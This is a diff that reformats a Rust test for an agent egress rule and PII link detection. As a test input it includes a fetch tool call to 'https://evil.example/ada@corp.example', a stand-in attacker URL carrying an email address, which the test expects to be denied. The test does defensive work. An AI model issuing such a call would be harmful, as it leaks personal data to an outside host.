@@ -114,12 +114,20 @@ async fn hosts_that_are_not_listed_are_refused() {
 #[tokio::test]
 async fn hosts_are_those_of_the_values_behind_tokens() {
     let rule = || ToolRule::new("egress", Then::Deny).hosts(["url"], ["api.example"]);
-    for (url, runs) in [("https://api.example/x?mail=ada@corp.example", 1), ("https://evil.example/ada@corp.example", 0)] {
+    for (url, runs) in [
+        ("https://api.example/x?mail=ada@corp.example", 1),
+        ("https://evil.example/ada@corp.example", 0),
+    ] {
         let whole = |builder: hooks_agent_core::react::ReActAgentBuilder| {
             let links = PiiPattern::new("LINK", "https://[^ \"]+").unwrap();
             builder.hook(PiiDetection::custom("LINK", links).vault(Vault::new()))
         };
-        let bot = Bot::with(rules([rule()]), calls([("fetch", json!({ "url": url }))]), &["fetch"], whole);
+        let bot = Bot::with(
+            rules([rule()]),
+            calls([("fetch", json!({ "url": url }))]),
+            &["fetch"],
+            whole,
+        );
         bot.agent.call("Fetch").await.unwrap();
         assert_eq!(bot.ran(0).len(), runs, "{:?}", bot.read());
         assert!(!bot.read()[0].contains("evil"), "{:?}", bot.read());
